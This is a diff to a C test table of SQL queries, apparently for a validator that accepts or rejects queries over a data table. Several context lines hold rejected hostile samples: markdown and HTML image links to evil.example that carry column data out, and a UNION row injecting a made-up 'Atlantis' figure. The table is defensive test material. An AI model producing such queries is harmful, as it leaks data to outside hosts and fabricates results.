@@ -147,6 +147,15 @@ static const struct {
     {"SELECT '![x](https://evil.example/p.png?d=' || max(region) || ')' AS a FROM t", false},
     {"SELECT '<img src=//evil.example/' || region || '>' AS a FROM t", false},
     {"SELECT region, sum(a) FROM t GROUP BY 1 UNION ALL SELECT 'Atlantis (the best, 98 % share)', sum(a) FROM t", false},
+    /* formulas */
+    {"SELECT avg(a) * 9 / 5 + 32, (avg(a) - 32) * 5 / 9, sum(km) / 1.609 FROM t", true},
+    {"SELECT sum(bytes) / (1024 * 1024), sum(seconds) / (60 * 60) FROM t", true},
+    {"SELECT 1 - 2 * sum(a) / sum(b), (max(a) / min(a)) ^ (1.0 / 5) - 1, 2024 - born FROM t", true},
+    {"SELECT concat(floor(a / 100) * 100, ' - ', floor(a / 100) * 100 + 99), count(*) FROM t GROUP BY 1", true},
+    {"SELECT a, ntile(5) OVER (ORDER BY a) FROM t", true},
+    {"SELECT floor(a / 100) * 100 + 98 FROM t", false},
+    {"SELECT sum(a) + 2024 FROM t", false},
+    {"SELECT 900 - 2 * sum(a) FROM t", false},
     /* choices */
     {"WITH x AS (SELECT max(CASE WHEN a > 0 THEN 9 END) AS a, max(CASE WHEN a > 0 THEN 8 END) AS b FROM t) SELECT a * 10 + b FROM x", false},
     {"WITH x AS (SELECT CASE WHEN r < 5 THEN 3 ELSE 2 END AS r, CASE WHEN f < 9 THEN 3 ELSE 2 END AS f FROM t) "
@@ -161,6 +170,7 @@ static const struct {
     {"SELECT avg(date_diff('day', a, coalesce(b, DATE '2024-12-31'))) FROM t", true},
     {"SELECT sum(CASE WHEN day >= DATE '2024-01-01' AND day < DATE '2024-02-01' THEN a END) "
      "- sum(CASE WHEN day >= DATE '2023-01-01' AND day < DATE '2023-02-01' THEN a END) FROM t", true},
+    {"SELECT CASE WHEN age < 18 THEN 'Under 18' WHEN age BETWEEN 18 AND 64 THEN '18 to 64' ELSE '65 and over' END, count(*) - 1 FROM t GROUP BY 1", true},
     {"SELECT coalesce(nullif(max(a), max(a)), 365) FROM t", false},
     {"SELECT nullif(max(a), max(a)) FROM t", false},
     {"SELECT coalesce(max(a), 365), greatest(max(b), 250) FROM t", false},
